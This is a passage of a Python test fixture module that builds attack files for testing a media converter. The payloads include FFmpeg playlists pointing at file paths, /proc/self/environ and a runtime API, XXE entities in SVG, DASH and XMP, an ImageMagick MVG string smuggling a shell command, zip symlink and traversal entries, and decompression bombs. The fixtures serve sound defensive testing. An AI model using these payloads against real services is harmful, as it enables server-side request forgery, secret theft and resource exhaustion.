"""Malicious files, each named after its attack: it opens something else, or exhausts resources.

Files in REFUSED are neither images nor films, and must be refused as such. Files in CARRIERS are, or appear
to be, images or films: they may be converted, but outputs may contain nothing but their own content.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import stat
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Mapping
from functools import cache
from typing import Any, NamedTuple

from PIL import Image

from infra.tools.samples import scene
from testing.fuzz import own_bases


class Bait(NamedTuple):
    """The targets of the attack files."""

    secret: str  # the absolute path of a file that nobody may read
    server: str  # host and port of a listener
    runtime: str  # host and port of a listener in place of Lambda's runtime API

    @property
    def url(self) -> str:
        return f"http://{self.server}/canary"

    @property
    def file(self) -> str:
        return f"file://{self.secret}"


Make = Callable[[Bait], bytes]


@cache
def _own() -> Mapping[str, bytes]:
    return {base.name: base.content for base in own_bases()}


# ── pieces of formats ───────────────────────────────────────────────────────────────────────────


def box(name: bytes, *parts: bytes) -> bytes:
    """A box of ISO/IEC 14496-12."""
    content = b"".join(parts)
    return struct.pack(">I4s", 8 + len(content), name) + content


_FTYP = box(b"ftyp", b"qt  ", bytes(4), b"qt  ")
# A frame of 16 × 16 pixels that is not blank.
FRAME = bytes(range(256)) * 3
MEDIA_AT = len(_FTYP) + 8
_MATRIX = struct.pack(">9I", 0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000)


def movie(
    *,
    drefs: tuple[bytes, ...] = (box(b"url ", b"\0\0\0\1"),),
    size: tuple[int, int] = (16, 16),
    codec: bytes = b"raw ",
    samples: int = 2,
    ticks: int = 512,
    timescale: int = 12800,
    matrix: bytes = _MATRIX,
    entry: bytes = b"",
    edits: bytes = b"",
    tracks: int = 1,
    more: bytes = b"",
    tables: tuple[bytes, ...] = (),
    length: int | None = None,
    media: bytes = b"",
) -> bytes:
    """A QuickTime film of two frames, with the given boxes and values."""
    width, height = size
    media_data = box(b"mdat", media or FRAME * 2)
    described = struct.pack(
        ">6xH16xHHIIIH32xHh", 1, width, height, 0x480000, 0x480000, 0, 1, 24, -1
    )
    table = box(
        b"stbl",
        box(b"stsd", struct.pack(">4xI", 1), box(codec, described, entry)),
        *(
            tables
            or (
                box(b"stts", struct.pack(">4xIII", 1, samples, ticks)),
                box(b"stsc", struct.pack(">4xIIII", 1, 1, samples, 1)),
                box(b"stsz", struct.pack(">4xII", len(FRAME), samples)),
                box(b"stco", struct.pack(">4xII", 1, MEDIA_AT)),
            )
        ),
    )
    length = min(samples * ticks, 2**32 - 1) if length is None else length
    media_header = box(b"mdhd", struct.pack(">4x8xIIHH", timescale, length, 0, 0))
    handler = box(b"hdlr", bytes(4), b"mhlrvide", bytes(12), b"\0")
    references = box(b"dinf", box(b"dref", struct.pack(">4xI", len(drefs)), *drefs))
    information = box(b"minf", box(b"vmhd", bytes(12)), references, table)
    head = struct.pack(">I8xI4xI16x", 7, 1, length)
    shown = struct.pack(">II", (width << 16) % 2**32, (height << 16) % 2**32)
    track = box(
        b"trak",
        box(b"tkhd", head, matrix, shown),
        edits,
        box(b"mdia", media_header, handler, information),
    )
    movie_header = box(
        b"mvhd", struct.pack(">4x8xIIIH10x", timescale, length, 0x10000, 0x100), _MATRIX, bytes(28)
    )
    return _FTYP + media_data + box(b"moov", movie_header, track * tracks, more)


def audio_track(scale: int, length: int, tables: tuple[bytes, ...]) -> bytes:
    """A track of PCM with these sample tables."""
    described = struct.pack(">6xH8xHHHHI", 1, 1, 16, 0, 0, 48000 << 16)
    table = box(b"stbl", box(b"stsd", struct.pack(">4xI", 1), box(b"twos", described)), *tables)
    handler = box(b"hdlr", bytes(4), b"mhlrsoun", bytes(12), b"\0")
    references = box(b"dinf", box(b"dref", struct.pack(">4xI", 1), box(b"url ", b"\0\0\0\1")))
    media_header = box(b"mdhd", struct.pack(">4x8xIIHH", scale, length, 0, 0))
    information = box(b"minf", box(b"smhd", bytes(8)), references, table)
    head = struct.pack(">I8xI4xI60x", 7, 2, length)
    return box(b"trak", box(b"tkhd", head), box(b"mdia", media_header, handler, information))


def _alias(path: str) -> bytes:
    """A Macintosh alias record with an absolute path."""
    name = path.rsplit("/", 1)[-1].encode()[:63]
    whole = path.replace("/", ":").encode()
    record = bytes(10) + b"\4disk".ljust(28, b"\0") + bytes(12)
    record += bytes([len(name)]) + name.ljust(63, b"\0") + bytes(16)
    record += struct.pack(">HH16x", 1, 1)
    record += struct.pack(">HH", 2, len(whole)) + whole + bytes(len(whole) % 2)
    return box(b"alis", bytes(4), record + b"\xff\xff\0\0")


def element(number: int, content: bytes | str | int) -> bytes:
    """An element of EBML (RFC 8794)."""
    if isinstance(content, int):
        content = content.to_bytes(8, "big")
    if isinstance(content, str):
        content = content.encode()
    name = number.to_bytes((number.bit_length() + 7) // 8, "big")
    return name + (len(content) | 1 << 56).to_bytes(8, "big") + content


def matroska(
    *, info: bytes = b"", track: bytes = b"", more: bytes = b"", scale: int = 1_000_000
) -> bytes:
    """A Matroska film of two frames, with the given elements."""
    head = element(0x1A45DFA3, element(0x4282, "matroska") + element(0x4287, 4))
    picture = element(0xB0, 16) + element(0xBA, 16) + element(0x2EB524, "I420")
    entry = (
        element(0xD7, 1)
        + element(0x73C5, 1)
        + element(0x83, 1)
        + element(0x86, "V_UNCOMPRESSED")
        + element(0x23E383, 40_000_000)
        + element(0xE0, picture)
        + track
    )
    frames = b"".join(
        element(0xA3, b"\x81" + struct.pack(">hB", time, 0x80) + FRAME[:384]) for time in (0, 40)
    )
    return head + element(
        0x18538067,
        element(0x1549A966, element(0x2AD7B1, scale) + info)
        + element(0x1654AE6B, element(0xAE, entry))
        + more
        + element(0x1F43B675, element(0xE7, 0) + frames),
    )


def chunk(name: bytes, *parts: bytes) -> bytes:
    """A chunk of RIFF."""
    content = b"".join(parts)
    return struct.pack("<4sI", name, len(content)) + content + bytes(len(content) % 2)


def avi(
    *,
    streams: bytes = b"",
    count: int = 1,
    packets: bytes = b"",
    index: bytes = b"",
    super_index: bytes = b"",
    rate: tuple[int, int] = (1, 25),
) -> bytes:
    """An AVI of two frames, with the given chunks."""
    main = struct.pack("<10I16x", 40_000, 0, 0, 0x10, 2, 0, count, 0, 16, 16)
    header = struct.pack(
        "<4s4sIHHIIIIIIII4H", b"vids", b"DIB ", 0, 0, 0, 0, *rate, 0, 2, 768, 0, 0, 0, 0, 16, 16
    )
    bitmap = struct.pack("<IiiHHIIiiII", 40, 16, 16, 1, 24, 0, 768, 0, 0, 0, 0)
    stream = chunk(b"LIST", b"strl", chunk(b"strh", header), chunk(b"strf", bitmap), super_index)
    headers = chunk(b"LIST", b"hdrl", chunk(b"avih", main), stream, streams)
    media = chunk(b"LIST", b"movi", 2 * chunk(b"00db", FRAME), packets)
    return chunk(b"RIFF", b"AVI ", headers, media, index)


def _avi_with_subtitles(script: bytes) -> bytes:
    """A film with a script as its subtitles, as in CVE-2017-9993."""
    header = struct.pack("<4s4sIHHIIIIIIII4H", b"txts", bytes(4), *[0] * 6, 1, *[0] * 8)
    stream = chunk(b"LIST", b"strl", chunk(b"strh", header), chunk(b"strf", bytes(4)))
    packet = b"GAB2\0" + struct.pack("<HI2sHI", 2, 2, b"a\0", 4, len(script)) + script
    return avi(streams=stream, count=2, packets=chunk(b"01tx", packet))


def png_chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + name + content + zlib.crc32(name + content).to_bytes(4)


def png(*chunks: bytes, size: tuple[int, int] = (16, 16), head: bytes = b"\x08\0\0\0\0") -> bytes:
    """A grey PNG, with these chunks before its pixels."""
    pixels = zlib.compress((b"\0" + b"\x80" * 16) * 16)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", struct.pack(">II", *size) + head)
        + b"".join(chunks)
        + png_chunk(b"IDAT", pixels)
        + png_chunk(b"IEND", b"")
    )


def saved(image_format: str, mode: str = "RGB", **options: Any) -> bytes:
    """A small image written by Pillow."""
    written = io.BytesIO()
    scene(64, 64).convert(mode).save(written, image_format, **options)
    return written.getvalue()


def jpeg(*segments: tuple[int, bytes]) -> bytes:
    """A JPEG, with these segments before its own."""
    whole = saved("JPEG")
    more = b"".join(
        struct.pack(">BBH", 0xFF, marker, 2 + len(content)) + content
        for marker, content in segments
    )
    return whole[:2] + more + whole[2:]


def tiff(entries: list[tuple[int, int, int, int]], data: bytes = b"", after: int = 0) -> bytes:
    """A TIFF: one directory of (tag, type, count, value), then `data`; `after`: offset of the next one."""
    fields = b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return b"II*\0" + struct.pack("<IH", 8, len(entries)) + fields + struct.pack("<I", after) + data


def _grey_tiff(
    size: tuple[int, int], data: bytes, *, compression: int = 1, after: int = 0, rows: int = 0
) -> bytes:
    fields = {
        256: size[0],
        257: size[1],
        258: 8,
        259: compression,
        262: 1,
        273: 8 + 2 + 9 * 12 + 4,
        277: 1,
        278: rows or size[1],
        279: len(data),
    }
    return tiff([(tag, 4, 1, value) for tag, value in fields.items()], data, after)


def ogg_page(serial: int, content: bytes, *, flags: int = 2) -> bytes:
    """An Ogg page that begins a stream (RFC 3533)."""
    page = struct.pack("<4sBBqIIIBB", b"OggS", 0, flags, 0, serial, 0, 0, 1, len(content)) + content
    crc = 0
    for byte in page:
        crc ^= byte << 24
        for _ in range(8):
            crc = (crc << 1 ^ (0x04C11DB7 if crc & 0x80000000 else 0)) & 0xFFFFFFFF
    return page[:22] + struct.pack("<I", crc) + page[26:]


# ── scripts that name other files ───────────────────────────────────────────────────────────────


def addresses(bait: Bait) -> dict[str, str]:
    """Addresses by which FFmpeg opens a file or a URL, by name."""
    return {
        "http": bait.url,
        "https": f"https://{bait.server}/canary",
        "file": bait.file,
        "path": bait.secret,
        "concat": f"concat:{bait.url}|{bait.file}",
        "data": "data:text/plain;base64,Y2FuYXJ5",
        "subfile": f"subfile,,start,0,end,100,,:{bait.secret}",
        "crypto": f"crypto+{bait.file}",
        "async": f"async:{bait.file}",
        "cache": f"cache:{bait.url}",
        "tcp": f"tcp://{bait.server}",
        "tls": f"tls://{bait.server}",
        "rtmp": f"rtmp://{bait.server}/canary",
        "ftp": f"ftp://{bait.server}/canary",
        "gopher": f"gopher://{bait.server}/canary",
        "udp": f"udp://{bait.server}",
        "runtime": f"http://{bait.runtime}/2018-06-01/runtime/invocation/next",
        "environment": "file:///proc/self/environ",
        "pipe": "pipe:0",
        "descriptor": "fd:",
    }


def playlist(*addresses: str, head: str = "") -> bytes:
    """An HLS playlist (RFC 8216)."""
    lines = ["#EXTM3U", "#EXT-X-TARGETDURATION:10", "#EXT-X-MEDIA-SEQUENCE:0", *head.splitlines()]
    for address in addresses:
        lines += ["#EXTINF:10.0,", address]
    return "\n".join([*lines, "#EXT-X-ENDLIST", ""]).encode()


def _both(bait: Bait) -> bytes:
    return playlist(bait.url, bait.file)


def _hls(scheme: str) -> Make:
    return lambda bait: playlist(addresses(bait)[scheme])


def _dash(body: str) -> Make:
    return lambda bait: (
        '<?xml version="1.0"?><!DOCTYPE m [<!ENTITY x SYSTEM "FILE">]>'
        '<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT9S">'
        f'<Period><AdaptationSet mimeType="video/mp4">{body}</AdaptationSet></Period></MPD>'
    ).replace("FILE", bait.file).replace("HTTP", bait.url).encode()  # fmt: skip


def _svg(body: str) -> Make:
    return lambda bait: (
        '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "FILE">]>'
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'width="99" height="99">{body}</svg>'
    ).replace("FILE", bait.file).replace("HTTP", bait.url).replace("PATH", bait.secret).encode()  # fmt: skip


def _text(text: str) -> Make:
    """A text whose words HTTP, FILE, PATH and HOST are replaced by the bait's targets."""
    return lambda bait: (
        text.replace("HTTP", bait.url)
        .replace("FILE", bait.file)
        .replace("PATH", bait.secret)
        .replace("HOST", bait.server)
        .replace("PORT", bait.server.rsplit(":", 1)[1])
        .encode()
    )


def _same(content: bytes) -> Make:
    return lambda _: content


def _picture(image_format: str, mode: str) -> Make:
    return lambda _: saved(image_format, mode)


def _zip(bait: Bait) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        link = zipfile.ZipInfo("picture.jpg")
        link.create_system = 3
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, bait.secret)
        archive.writestr("../../outside.txt", "canary")
    return written.getvalue()


def _tar(bait: Bait) -> bytes:
    written = io.BytesIO()
    with tarfile.open(fileobj=written, mode="w") as archive:
        for kind in (tarfile.SYMTYPE, tarfile.LNKTYPE):
            link = tarfile.TarInfo(f"picture-{kind!r}.jpg")
            link.type, link.linkname = kind, bait.secret
            archive.addfile(link)
    return written.getvalue()


def _id3(kind: str) -> Make:
    """An audio file with a link as its cover (ID3v2.4, APIC of the type -->)."""

    def make(bait: Bait) -> bytes:
        link = (bait.url if kind == "link" else bait.secret).encode()
        frame = b"\0-->\0\3\0" + link
        content = b"APIC" + struct.pack(">IH", len(frame), 0) + frame
        content += b"WXXX" + struct.pack(">IH", len(link) + 2, 0) + b"\0\0" + link
        size = len(content)
        tag = b"ID3\4\0\0" + bytes((size >> shift) & 0x7F for shift in (21, 14, 7, 0)) + content
        return tag + (_both(bait) if kind == "playlist" else b"\xff\xfb\x90\0" + bytes(413))

    return make


def _lnk(bait: Bait) -> bytes:
    head = b"L\0\0\0\1\x14\2\0\0\0\0\0\xc0\0\0\0\0\0\0F" + struct.pack("<I", 0x8)
    path = bait.secret.encode("utf-16-le")
    return head.ljust(76, b"\0") + struct.pack("<H", len(path) // 2) + path


def _swf(bait: Bait) -> bytes:
    link = bait.url.encode() + b"\0_self\0"
    action = b"\x83" + struct.pack("<H", len(link)) + link + b"\0"
    tag = struct.pack("<HI", 12 << 6 | 0x3F, len(action)) + action
    body = b"\0\0\0\x19\1\0" + tag + b"\0\0"
    return b"FWS\6" + struct.pack("<I", 8 + len(body)) + body


_BOMB = bytes(50 * 1024**2)


@cache
def _packed_bomb() -> bytes:
    return zlib.compress(_BOMB, 1)


REFUSED: dict[str, Make] = {
    # Playlists and manifests that are named like films.
    **{f"hls/{scheme}.mp4": _hls(scheme) for scheme in addresses(Bait("", "", ""))},
    "hls/key.mp4": lambda b: playlist(
        b.url, head=f'#EXT-X-KEY:METHOD=AES-128,URI="{b.file}",IV=0x{0:032x}'
    ),
    "hls/map.mp4": lambda b: playlist(b.url, head=f'#EXT-X-MAP:URI="{b.file}",BYTERANGE="9@0"'),
    "hls/range.mp4": lambda b: playlist(b.secret, head="#EXT-X-BYTERANGE:16@0"),
    "hls/variants.m3u8": lambda b: b"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n" + b.url.encode(),
    "hls/media.m3u8": lambda b: (
        b'#EXTM3U\n#EXT-X-MEDIA:TYPE=SUBTITLES,GROUP-ID="s",NAME="s",URI="' + b.url.encode() + b'"'
    ),
    "hls/mark.mp4": lambda b: b"\xef\xbb\xbf" + _both(b),
    "hls/blank.mp4": lambda b: b"\n \n" + _both(b),
    "hls/packed.mp4": lambda b: gzip.compress(_both(b)),
    "hls/wide.mp4": lambda b: _both(b).decode().encode("utf-16"),
    "dash/http.mpd": _dash("<BaseURL>HTTP</BaseURL><Representation id='1' bandwidth='1'/>"),
    "dash/file.mp4": _dash(
        "<SegmentTemplate media='FILE' initialization='FILE' duration='1' startNumber='1'/>"
        "<Representation id='1' bandwidth='1'/>"
    ),
    "dash/entity.mp4": _dash("<BaseURL>&x;</BaseURL>"),
    "script/smooth.ism": _text("<smil><body><video src='FILE'/><video src='HTTP'/></body></smil>"),
    "script/concat.mp4": _text("ffconcat version 1.0\nfile 'PATH'\nfile 'HTTP'\n"),
    "script/concat.txt": _text("file PATH\nfile FILE\n"),
    "script/avisynth.avs": _text('FFVideoSource("PATH")\n'),
    "script/vapoursynth.vpy": _text("import vapoursynth\nopen('PATH').read()\n"),
    "script/graph.mp4": _text("movie=PATH,scale=16:16\n"),
    "script/metadata.mp4": _text(";FFMETADATA1\ntitle=FILE\n"),
    "script/imf.xml": _text(
        "<CompositionPlaylist xmlns='http://www.smpte-ra.org/schemas/2067-3/2016'>"
        "<AssetMap>FILE HTTP</AssetMap></CompositionPlaylist>"
    ),
    "script/old.m3u": _text("HTTP\nFILE\nPATH\n"),
    "script/old.pls": _text("[playlist]\nFile1=HTTP\nFile2=FILE\nNumberOfEntries=2\n"),
    "script/old.asx": _text("<asx version='3.0'><entry><ref href='HTTP'/></entry></asx>"),
    "script/reference.wmv": _text("[Reference]\r\nRef1=HTTP\r\nRef2=FILE\r\n"),
    "script/real.ram": _text("rtsp://HOST/canary\nHTTP\n"),
    "script/quicktime.qtl": _text("<?quicktime type='application/x-qtml'?><embed src='HTTP'/>"),
    "script/quicktime.mov": _text("RTSPtext\rrtsp://HOST/canary\r"),
    "script/session.sdp": _text(
        "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\n"
        "a=control:rtsp://HOST/canary\nm=video PORT RTP/AVP 96\na=rtpmap:96 H264/90000\n"
    ),
    "script/stream.mp4": _text("rtsp://HOST/canary\n"),
    "script/address.mp4": _text("FILE"),
    "script/slice.mp4": _text("subfile,,start,0,end,100,,:PATH"),
    "script/cipher.mp4": _text("crypto:PATH"),
    "script/link.url": _text("[InternetShortcut]\r\nURL=FILE\r\nIconFile=HTTP\r\n"),
    "script/link.desktop": _text("[Desktop Entry]\nType=Link\nURL=FILE\nIcon=PATH\n"),
    "script/link.lnk": _lnk,
    "script/page.jpg": _text("<html><img src='HTTP'><iframe src='FILE'></iframe></html>"),
    # Subtitles.
    "subtitles/reference.srt": _text(
        "1\n00:00:00,000 --> 00:00:09,000\n<img src='HTTP'><font face='PATH'>FILE</font>\n"
    ),
    "subtitles/fonts.ass": _text(
        "[Script Info]\nScriptType: v4.00+\nVideo File: PATH\nAudio URI: HTTP\n[Fonts]\n"
        "fontname: PATH\n[Events]\nDialogue: 0,0:00:00.00,0:00:09.00,x,,0,0,0,,{\\fnPATH}FILE\n"
    ),
    "subtitles/page.smi": _text("<SAMI><head><link href='HTTP'></head><img src='FILE'></SAMI>"),
    "subtitles/web.vtt": _text("WEBVTT\n\nSTYLE\n::cue{background:url(HTTP)}\n\n00:00.000\n"),
    "subtitles/timed.xml": _text("<tt xmlns='http://www.w3.org/ns/ttml'><image src='HTTP'/></tt>"),
    "subtitles/pictures.idx": _text(
        "# VobSub index file, v7 (do not modify this line!)\nsize: 16x16\nid: en, index: 0\n"
        "timestamp: 00:00:00:000, filepos: 000000000\n"
    ),
    # Drawings and documents.
    "svg/file.svg": _svg('<image xlink:href="FILE" width="9" height="9"/>'),
    "svg/http.jpg": _svg('<image href="HTTP" width="9" height="9"/>'),
    "svg/text.png": _svg('<image xlink:href="text:PATH" width="9" height="9"/>'),
    "svg/entity.svg": _svg("<text>&x;</text>"),
    "svg/style.svg": _svg("<style>@import url(HTTP);</style><rect fill='url(FILE#a)'/>"),
    "svg/filter.svg": _svg('<filter><feImage href="FILE"/></filter><use href="HTTP#a"/>'),
    "svg/script.svg": _svg("<script>fetch('HTTP')</script>"),
    "svg/include.svg": _svg(
        '<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="FILE" parse="text"/>'
    ),
    "svg/packed.svgz": lambda b: gzip.compress(_svg('<image href="HTTP"/>')(b)),
    "svg/wide.svg": lambda b: _svg('<image href="FILE"/>')(b).decode().encode("utf-16"),
    "drawing/magick.mvg": _text(
        "push graphic-context\nviewbox 0 0 9 9\nimage over 0,0 0,0 'HTTP'\n"
        "fill 'url(HTTP\";|ls \"-la)'\nimage over 0,0 0,0 'label:@PATH'\npop graphic-context\n"
    ),
    "drawing/magick.msl": _text("<image><read filename='PATH'/><write filename='HTTP'/></image>"),
    "drawing/page.ps": _text("%!PS\n(PATH) (r) file 99 string readstring pop show showpage\n"),
    "drawing/page.eps": _text(
        "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n%%EndComments\n(PATH) run showpage\n"
    ),
    "drawing/binary.eps": _same(b"\xc5\xd0\xd3\xc6\x1e\0\0\0" + bytes(22) + b"%!PS-Adobe-3.0\n"),
    "drawing/page.pdf": _text(
        "%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(HTTP)>>/AA<</O<</S/Launch/F(PATH)"
        ">>>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    ),
    "drawing/old.wmf": _same(b"\xd7\xcd\xc6\x9a" + bytes(18) + b"\1\0\t\0\0\3" + bytes(99)),
    "drawing/new.emf": _same(b"\1\0\0\0\x6c\0\0\0" + bytes(32) + b" EMF" + bytes(99)),
    "drawing/film.swf": _swf,
    "drawing/ansi.mp4": _text("\x1b[2J\x1b[1;1H\x1b]8;;HTTP\x1b\\FILE\x1b]8;;\x1b\\\n" * 20),
    "drawing/xbin.mp4": lambda b: (
        b"XBIN\x1a \0\x0f\0\x10\4" + bytes(8) + b"SAUCE00" + b.secret.encode()
    ),
    # Archives.
    "archive/link.zip": _zip,
    "archive/link.jpg": _zip,
    "archive/link.tar": _tar,
    "archive/bomb.gz": lambda _: gzip.compress(_BOMB),
    "archive/bomb.xz": lambda _: lzma.compress(_BOMB, preset=0),
    "archive/bomb.bz2": lambda _: bz2.compress(_BOMB, 1),
    # Audio.
    "sound/link.mp3": _id3("link"),
    "sound/path.mp3": _id3("path"),
    "sound/playlist.mp3": _id3("playlist"),
    # Formats that Pillow or other programs open, and Sluice does not accept.
    **{
        f"picture/{name.lower()}.jpg": _picture(name, mode)
        for name, mode in (
            ("BLP", "P"),
            ("DDS", "RGB"),
            ("DIB", "RGB"),
            ("EPS", "RGB"),
            ("ICNS", "RGB"),
            ("ICO", "RGB"),
            ("JPEG2000", "RGB"),
            ("MSP", "1"),
            ("PALM", "1"),
            ("PCX", "RGB"),
            ("PDF", "RGB"),
            ("PPM", "RGB"),
            ("QOI", "RGB"),
            ("SGI", "RGB"),
            ("SPIDER", "F"),
            ("TGA", "RGB"),
            ("XBM", "1"),
        )
    },
    **{
        f"picture/{name}": _same(head + bytes(200))
        for name, head in {
            "fits.jpg": b"SIMPLE  =                    T",
            "fli.jpg": b"\x80\0\0\0\x12\xaf",
            "cur.jpg": b"\0\0\2\0\1\0",
            "dcx.jpg": b"\xb1\x68\xde\x3a",
            "psd.jpg": b"8BPS\0\1",
            "xpm.jpg": b"/* XPM */",
            "pixar.jpg": b"\x80\xe8\0\0",
            "thumbnail.jpg": b"P7 332\n",
            "iptc.jpg": b"\x1c\2\0\0\2",
            "mpeg.jpg": b"\0\0\1\xb3",
            "ftex.jpg": b"FTEX",
            "grib.jpg": b"GRIB",
            "bufr.jpg": b"BUFR",
            "hdf5.jpg": b"\x89HDF\r\n\x1a\n",
            "ole.fpx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
            "mng.png": b"\x8aMNG\r\n\x1a\n\0\0\0\x1cMHDR",
            "jng.png": b"\x8bJNG\r\n\x1a\n\0\0\0\x10JHDR",
            "radiance.jpg": b"#?RADIANCE\n",
            "exr.jpg": b"\x76\x2f\x31\1",
            "jxl.jpg": b"\xff\x0a",
            "raw.jpg": b"IIRO\x08\0\0\0",
        }.items()
    },
    # Empty and very short files.
    **{f"short/{size}.jpg": _same(b"\xff"[:size]) for size in (0, 1)},
    **{
        f"short/{name}": _same(head)
        for name, head in {
            "jpeg.jpg": b"\xff\xd8\xff",
            "png.png": b"\x89PNG\r\n\x1a\n",
            "gif.gif": b"GIF89a",
            "tiff.tif": b"II*\0",
            "bmp.bmp": b"BM",
            "webp.webp": b"RIFF\4\0\0\0WEBP",
            "avif.avif": b"\0\0\0\x0cftypavif",
            "mp4.mp4": b"\0\0\0\x08ftyp",
            "mkv.mkv": b"\x1aE\xdf\xa3",
            "ogg.ogv": b"OggS",
            "flv.flv": b"FLV\1",
            "asf.wmv": b"\x30\x26\xb2\x75\x8e\x66\xcf\x11",
            "mpeg.mpg": b"\0\0\1\xba",
            "avi.avi": b"RIFF\4\0\0\0AVI ",
            "ts.ts": (b"G" + bytes(187)) * 3,
        }.items()
    },
}

# ── pictures and films that carry something ─────────────────────────────────────────────────────

_HEADS = {
    "jpeg": b"\xff\xd8\xff\xe0",
    "png": b"\x89PNG\r\n\x1a\n",
    "gif": b"GIF89a",
    "tiff": b"II*\0",
    "bmp": b"BM",
    "webp": b"RIFF\xff\0\0\0WEBP",
    "avif": box(b"ftyp", b"avif", bytes(4), b"avif"),
    "mp4": box(b"ftyp", b"isom", bytes(4), b"isom"),
    "free": box(b"free"),
    "mdat": b"\0\0\0\0mdat",
    "moov": b"\0\0\1\0moov",
    "mkv": b"\x1aE\xdf\xa3",
    "ogg": b"OggS",
    "flv": b"FLV\1",
    "asf": b"\x30\x26\xb2\x75\x8e\x66\xcf\x11",
    "mpeg": b"\0\0\1\xba",
    "avi": b"RIFF\xff\0\0\0AVI ",
    "ts": (b"G\x1f\xff\x10" + bytes(184)) * 3,
}


def _after(head: bytes) -> Make:
    return lambda bait: head + b"\n" + _both(bait)


def _xmp(bait: Bait) -> bytes:
    return (
        '<?xpacket begin=""?><!DOCTYPE x [<!ENTITY x SYSTEM "FILE"><!ENTITY % y SYSTEM "HTTP"> %y;'
        "]>"
        "<x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf"
        "-syntax-ns#'><rdf:Description xmlns:p='http://ns.adobe.com/xap/1.0/' p:BaseURL='HTTP'>"
        "&x;<p:Manifest rdf:resource='FILE'/></rdf:Description></rdf:RDF></x:xmpmeta>"
    ).replace("HTTP", bait.url).replace("FILE", bait.file).encode()  # fmt: skip


def _exif(bait: Bait) -> bytes:
    exif = Image.Exif()
    exif[0x010E], exif[0x0131], exif[0x8298] = bait.url, bait.secret, bait.file
    exif[0x0112] = 9
    return exif.tobytes()


def _exif_loop(_: Bait) -> bytes:
    """EXIF directories that contain themselves."""
    return b"Exif\0\0" + tiff([(0x8769, 4, 1, 8), (0x8825, 4, 1, 8), (0x014A, 4, 1, 8)], after=8)


def _jpeg_segment(marker: int, content: Make) -> Make:
    return lambda bait: jpeg((marker, content(bait)))


def _tiff_tags(bait: Bait) -> bytes:
    return saved("TIFF", tiffinfo={700: _xmp(bait), 270: bait.url, 269: bait.secret})


def _many_scans(_: Bait) -> bytes:
    """A progressive JPEG of nine megapixels with 300 scans."""
    width = 3000
    blocks = (width // 8) ** 2
    runs = -(-blocks // 32767)
    head = b"\xff\xd8\xff\xdb\0\x43\0" + b"\1" * 64
    head += b"\xff\xc2\0\x0b\x08" + struct.pack(">HH", width, width) + b"\1\1\x11\0"
    head += b"\xff\xc4\0\x14\0\1" + bytes(15) + b"\0"
    head += b"\xff\xc4\0\x14\x10\1" + bytes(15) + b"\xe0"
    scan = b"\xff\xda\0\x08\1\1\0\0\0\0" + bytes(-(-blocks // 8))
    bits = ("0" + "1" * 14) * runs
    ac = int(bits.ljust(-(-len(bits) // 8) * 8, "1"), 2).to_bytes(-(-len(bits) // 8))
    again = b"\xff\xda\0\x08\1\1\0\1\x3f\0" + ac.replace(b"\xff", b"\xff\0")
    return head + scan + again * 300 + b"\xff\xd9"


def _avif(**edits: Any) -> bytes:
    """An AVIF with false boxes: of its size, or of the file that holds its data."""
    content = bytearray(saved("AVIF"))
    if "size" in edits:
        start = content.index(b"ispe") + 8
        content[start : start + 8] = struct.pack(">II", *edits["size"])
    if "reference" in edits:
        start = content.index(b"iloc") + 4
        version = content[start]
        at = start + 4 + 2 + 2 + 2 + (2 if version else 0)
        content[at : at + 2] = struct.pack(">H", edits["reference"])
    return bytes(content)


def _frames_gif(count: int) -> bytes:
    frame = b"\x2c\0\0\0\0\1\0\1\0\0\2\2\x44\1\0"
    return b"GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff" + frame * count + b";"


def _big_gif() -> bytes:
    return b"GIF89a\xff\xff\xff\xff\x80\0\0\0\0\0\xff\xff\xff\x2c\0\0\0\0\xff\xff\xff\xff\0\2\2\x44\1\0;"


def _bmp(size: tuple[int, int], compression: int = 0) -> bytes:
    head = struct.pack("<IiiHHIIiiII", 40, *size, 1, 8, compression, 0, 0, 0, 256, 0)
    return b"BM" + struct.pack("<IHHI", 99, 0, 0, 54 + 1024) + head + bytes(1024) + bytes(16)


def _pages_tiff(count: int) -> bytes:
    pages, offset = b"", 8
    for number in range(count):
        following = offset + 2 + 12 + 4 if number + 1 < count else 0
        pages += struct.pack("<HHHIII", 1, 256, 4, 1, 16, following)
        offset = following
    return b"II*\0" + struct.pack("<I", 8) + pages


def _asf(bait: Bait) -> bytes:
    """A Windows Media file with a script command that opens a URL, and branding that links to one."""
    content = _own()["wmv2.wmv"]
    link = bait.url.encode("utf-16-le")
    command = struct.pack("<HH", 1, 1) + struct.pack("<H", 3) + "URL".encode("utf-16-le")
    command += struct.pack("<IHH", 0, 0, len(link) // 2) + link
    script = bytes.fromhex("301afb1e620bd011a39b00a0c90348f6")
    inserted = script + struct.pack("<Q", 24 + 16 + len(command)) + bytes(16) + command
    short = bait.url.encode() + b"\0"
    brand = struct.pack("<III", 0, 0, len(short)) + short + struct.pack("<I", len(short)) + short
    branding = bytes.fromhex("fab3112223bdd211b4b700a0c955fc6e")
    inserted += branding + struct.pack("<Q", 24 + len(brand)) + brand
    size, count = struct.unpack("<QI", content[16:28])
    head = struct.pack("<QI", size + len(inserted), count + 2)
    return content[:16] + head + content[28:30] + inserted + content[30:]


def _flv(bait: Bait) -> bytes:
    """An FLV whose metadata has a URL, and an index of endless length."""
